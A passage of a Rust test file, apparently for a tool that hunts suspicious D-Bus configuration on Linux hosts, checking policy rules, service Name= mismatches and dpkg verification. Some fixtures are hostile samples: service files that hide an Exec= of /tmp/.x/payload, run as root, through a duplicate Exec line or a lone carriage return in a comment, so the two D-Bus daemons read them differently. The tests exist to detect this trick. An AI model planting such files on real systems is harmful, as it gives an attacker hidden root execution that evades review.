    let got: BTreeSet<(String, String, String)> = rows
        .iter()
        .map(|r| {
            (
                r["context"].as_str().unwrap_or_default().to_string(),
                r["position"].as_str().unwrap_or_default().to_string(),
                r["why"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect();
    assert!(rows
        .iter()
        .all(|r| r["path"] == "/etc/dbus-1/system.d/org.evil.Policy.conf"));
    // Fragments are read in directory order, as dbus-daemon reads them:
    // the packaged fragment's one default rule comes first when the file
    // system lists it first.
    let listed: Vec<String> = std::fs::read_dir(f.path("/etc/dbus-1/system.d"))
        .expect("read_dir")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    let evil = listed.iter().position(|n| n == "org.evil.Policy.conf");
    let example = listed.iter().position(|n| n == "org.example.Packaged.conf");
    let before = usize::from(example < evil);
    let want: BTreeSet<(String, String, String)> = [
        ("default", 1, "lets the connection own any name"),
        (
            "default",
            2,
            "lets the connection call a service that runs as root",
        ),
        // After the default (1-5) and user (6) rules.
        ("at_console", 7, "lets the connection own a wildcard name"),
    ]
    .into_iter()
    .map(|(a, b, c)| {
        // Default rules come first whatever file holds them.
        let b = if a == "default" { b + before } else { b };
        (a.to_string(), b.to_string(), c.to_string())
    })
    .collect();
    assert_eq!(got, want, "{rows:#?}");
}

/// A root for the name and reading checks: `files` are written as
/// given, those in `packaged` are owned by the dpkg package `pkg` with
/// their digests as written now (so they verify), and `programs` exist.
fn small_root(files: &[(String, &str)], packaged: &[&str], programs: &[&str]) -> Fixture {
    let f = Fixture {
        dir: tempfile::tempdir().expect("tempdir"),
    };
    f.write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
    f.write("/etc/group", "root:x:0:\n");
    for p in programs {
        f.program(p);
    }
    for (path, body) in files {
        f.write(path, body);
    }
    let owned: Vec<&str> = packaged
        .iter()
        .copied()
        .chain(programs.iter().copied())
        .collect();
    let md5sums: String = owned
        .iter()
        .map(|p| format!("{}  {}\n", md5_file(&f.path(p)), &p[1..]))
        .collect();
    f.write("/var/lib/dpkg/info/pkg.md5sums", &md5sums);
    f.write(
        "/var/lib/dpkg/info/pkg.list",
        &format!("/.\n{}\n", owned.join("\n")),
    );
    f.write(
        "/var/lib/dpkg/status",
        "Package: pkg\nStatus: install ok installed\n",
    );
    f
}

/// Name= must match the file name only for system-bus activation: a
/// packaged session file that verifies and is named otherwise is normal
/// and no finding; the same on the system bus, or a session file no
/// package verifies (unpackaged, edited after install, per-user), is.
#[test]
fn service_name_mismatch_only_where_the_bus_needs_the_match() {
    let body = |name: &str| format!("[D-BUS Service]\nName={name}\nExec=/usr/lib/pkg/daemon\n");
    let ses_ok = svc(SES, "org.pkg.Daemon");
    let ses_edited = svc(SES, "org.pkg.Edited");
    let ses_loose = svc(SES, "org.pkg.Loose");
    let sys_packaged = svc(SYS, "org.pkg.System");
    let matching = svc(SES, "org.pkg.Match");
    let files = [
        (ses_ok.clone(), body("org.pkg.Daemon.Impl").leak() as &str),
        (ses_edited.clone(), body("org.pkg.Edited.Impl").leak()),
        (ses_loose.clone(), body("org.freedesktop.secrets").leak()),
        (sys_packaged.clone(), body("org.pkg.System1").leak()),
        (matching.clone(), body("org.pkg.Match").leak()),
    ];
    let f = small_root(
        &files,
        &[&ses_ok, &ses_edited, &sys_packaged, &matching],
        &["/usr/lib/pkg/daemon"],
    );
    // Edited after the package recorded its digest.
    f.write(&ses_edited, &body("org.pkg.Edited.Other"));
    let rows = f.hunt("service_name_mismatch");
    assert_eq!(
        column(&rows, "path"),
        set([ses_edited.clone(), ses_loose, sys_packaged.clone()]),
        "{rows:#?}"
    );
    for r in &rows {
        if r["path"] == sys_packaged {
            assert_eq!(r["package_verified"], "1", "{r}");
        }
        if r["path"] == ses_edited {
            assert_eq!(r["package_verified"], "0", "{r}");
        }
    }
}

/// A file the two daemons read differently is a high finding, with the
/// program the other daemon would run checked; plain files, and a
/// trailing blank that only adds dbus-daemon's empty last argument, are
/// not.
#[test]
fn service_readings_differ() {
    let dup = svc(SES, "org.pkg.Dup");
    let cr = svc(SYS, "org.pkg.Cr");
    let plain = svc(SES, "org.pkg.Plain");
    let trailing = svc(SES, "org.pkg.Trailing");
    let files = [
        (
            dup.clone(),
            "[D-BUS Service]\nName=org.pkg.Dup\nExec=/usr/lib/pkg/daemon\nExec=/tmp/.x/payload\n",
        ),
        (
            cr.clone(),
            "[D-BUS Service]\nName=org.pkg.Cr\nUser=root\n# see docs\rExec=/tmp/.x/payload\nExec=/usr/lib/pkg/daemon\n",
        ),
        (
            plain.clone(),
            "[D-BUS Service]\nName=org.pkg.Plain\nExec=/usr/lib/pkg/daemon --x\n",
        ),
        (
            trailing.clone(),
            "[D-BUS Service]\nName=org.pkg.Trailing\nExec=/usr/lib/pkg/daemon --x \n",
        ),
    ];
    let f = small_root(
        &files,
        &[&dup, &cr, &plain, &trailing],
        &["/usr/lib/pkg/daemon"],
    );
    let rows = f.hunt("service_readings_differ");
    assert_eq!(
        column(&rows, "path"),
        set([dup.clone(), cr.clone()]),
        "{rows:#?}"
    );
    for r in &rows {
        let d = r["reading_difference"].as_str().unwrap_or_default();
        if r["path"] == dup {
            // dbus-daemon keeps the first Exec=, dbus-broker the last; the
            // latter's program is checked like exec_path.
            assert_eq!(r["exec_path"], "/usr/lib/pkg/daemon");
            assert_eq!(
                d,
                r#"Exec: dbus-daemon runs ["/usr/lib/pkg/daemon"], dbus-broker ["/tmp/.x/payload"] (/tmp/.x/payload: does not exist)"#
            );
        } else {
            // The lone CR ends the comment for dbus-daemon only.
            assert_eq!(r["exec_path"], "/tmp/.x/payload");
            assert!(
                d.starts_with(r#"Exec: dbus-daemon runs ["/tmp/.x/payload"], dbus-broker ["/usr/lib/pkg/daemon"] (/usr/lib/pkg/daemon: exists, owner uid "#),
                "{d}"
            );
            assert!(
                d.ends_with(", provenance dpkg, package pkg, verified)"),
                "{d}"
            );
        }
    }
}
